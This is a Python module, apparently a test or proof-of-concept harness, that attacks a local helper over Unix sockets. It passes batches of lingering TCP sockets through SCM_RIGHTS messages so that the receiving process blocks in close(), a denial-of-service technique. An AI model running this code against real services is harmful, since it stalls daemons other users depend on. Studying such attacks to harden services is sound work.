"""Attacks by descriptors in messages (SCM_RIGHTS): a helper that receives or drops a message closes the files."""

from __future__ import annotations

import array
import contextlib
import signal
import socket
import struct
import time
from collections import deque
from collections.abc import Callable, Sequence
from typing import Self

LINGER_SECONDS = 60
"""SO_LINGER of a socket: the time for which close() waits for a peer that reads nothing."""
MOST_PER_MESSAGE = 253
"""The kernel's SCM_MAX_FD: the most descriptors in one message."""
MOST_PER_LISTENER = 2_000
"""Connections in a listener's backlog that nobody accepts, fewer than net.core.somaxconn."""
CONNECT_SECONDS = 1.0
OWN_WAIT_SECONDS = 0.005
"""Longest wait in a close() of this process, until a signal interrupts it."""
ANSWER_SECONDS = 15.0
"""Longest wait for an answer, as long as Intel's client waits."""


class LingeringSockets:
    """Makes TCP sockets whose close() waits, since their peers' windows are closed."""

    def __init__(self) -> None:
        self._listeners: deque[socket.socket] = deque(maxlen=3)
        self._left = 0

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *_: object) -> None:
        for listener in self._listeners:
            listener.close()

    def make(self) -> socket.socket:
        if not self._left:
            listener = socket.socket()
            listener.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
            listener.bind(("127.0.0.1", 0))
            listener.listen(MOST_PER_LISTENER + 1)
            if len(self._listeners) == self._listeners.maxlen:
                self._listeners.popleft().close()
            self._listeners.append(listener)
            self._left = MOST_PER_LISTENER
        self._left -= 1
        made = socket.socket()
        made.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4096)
        made.connect(self._listeners[-1].getsockname())
        made.setblocking(False)
        with contextlib.suppress(BlockingIOError):
            while True:
                made.send(bytes(65_536))
        made.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, LINGER_SECONDS))
        return made


def pass_descriptors(connection: socket.socket, data: bytes, passed: Sequence[socket.socket]) -> bool:
    """Send bytes with descriptors, and close these here; return whether the kernel accepted them."""
    numbers = array.array("i", [each.fileno() for each in passed])
    try:
        connection.sendmsg([data], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, numbers)])
    except OSError:
        # A reset makes close() of unpassed sockets return without a wait.
        for each in passed:
            each.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        return False
    finally:
        for each in passed:
            each.close()
    return True


def pass_lingering(path: str, over: Callable[[], bool], *, rate: float, number: int) -> int:
    """Pass lingering sockets at this rate per second, if the kernel accepts them; return the message count.

    If the helper drops a descriptor before its close here, this process waits in close(), until a signal comes.
    """
    signal.signal(signal.SIGALRM, lambda *_: None)
    signal.setitimer(signal.ITIMER_REAL, OWN_WAIT_SECONDS, OWN_WAIT_SECONDS)
    sockets, made, due = LingeringSockets(), 0, time.monotonic()
    while not over():
        passed = [sockets.make() for _ in range(number)]
        with socket.socket(socket.AF_UNIX) as connection, contextlib.suppress(OSError):
            connection.settimeout(CONNECT_SECONDS)
            connection.connect(path)
            made += 1
            pass_descriptors(connection, b"\1", passed)
        for each in passed:
            each.close()
        due = max(due + 1 / rate, time.monotonic() - 1)
        time.sleep(max(0.0, due - time.monotonic()))
    return made


def pass_own_end(path: str, request: bytes) -> bool:
    """Ask, await the answer, pass the connection's own end over it, and close; return whether the kernel took it."""
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(ANSWER_SECONDS)
        try:
            connection.connect(path)
            connection.sendall(request)
            connection.recv(1, socket.MSG_PEEK)
        except OSError:
            return False
        return pass_descriptors(connection, b"\1", [connection])
